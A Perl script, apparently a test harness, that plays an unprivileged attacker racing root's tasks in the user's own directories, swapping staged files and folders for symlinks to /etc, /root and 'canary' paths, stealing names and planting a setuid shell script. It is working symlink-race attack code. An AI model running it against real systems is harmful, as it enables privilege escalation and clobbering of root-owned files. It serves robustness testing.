# What an unprivileged user of a host can do to directories of their own while root's tasks write there: staged names are
# stolen, targets and directories are swapped for links to files of root's, and put back. Run in the directory itself.
use strict;
use warnings;

my @links = ('/etc/canary', '/root/canary', '/usr/local/bin/canary', '/etc/canary.d', '/root/canary.d', '/etc', '/root');
my $own = shift or die;
srand($$);
my $n = 0;
sub usleep { select undef, undef, undef, $_[0] / 1e6 }
my $any = sub { $_[ int rand @_ ] };

# Puts a link in the place of a name for a moment.
sub swap {
  my ($name, $to) = @_;
  $n++;
  my $kept = "$own/attic/$$-$n";
  rename($name, $kept) or return;
  symlink($to, $name);
  usleep(int rand 3000);
  unlink $name;
  rename($kept, $name) if !-e $name;
}

sub steal {
  my ($name) = @_;
  $n++;
  rename($name, "$own/stolen/$$-$n") or return;
  my $how = int rand 4;
  if    ($how == 0) { symlink($any->(@links), $name) }
  elsif ($how == 1) { mkdir $name }
  elsif ($how == 2) { my $back = "$own/stolen/$$-$n"; usleep(500); rename($back, $name) }
  else              { if (open my $f, '>', $name) { print $f "#!/bin/sh\nid\n"; chmod 04777, $f } }
}

while (1) {
  for my $folder ("$own/d", "$own/d/sub", "$own/d/tree", "$own/d/un", "$own/.ssh", $own, '/var/tmp') {
    opendir(my $h, $folder) or next;
    my @names = grep { $folder eq $own ? /^\.(ssh|bringup-.*)$/ : !/^\.\.?$/ } readdir $h;
    closedir $h;
    # As soon as something is staged, the swaps that count are those a moment later.
    my @staged = grep { /^\.bringup-/ } @names;
    for my $name (@staged) {
      usleep(int rand 8000);
      my $dice = rand;
      if    ($dice < 0.2) { steal("$folder/$name") }
      elsif ($dice < 0.5) { swap("$folder/" . $any->(@names), $any->(@links)) }
      elsif ($dice < 0.6) { swap($folder, $any->(@links)) if $folder ne '/var/tmp' && $folder ne $own }
    }
    next if @staged || !@names || $folder eq '/var/tmp' || $folder eq $own;
    swap("$folder/" . $any->(@names), $any->(@links)) if rand() < 0.03;
  }
  swap("$own/$_", $any->(@links)) for grep { rand() < 0.005 } 'd', '.ssh';
  usleep(int rand 1000);
}
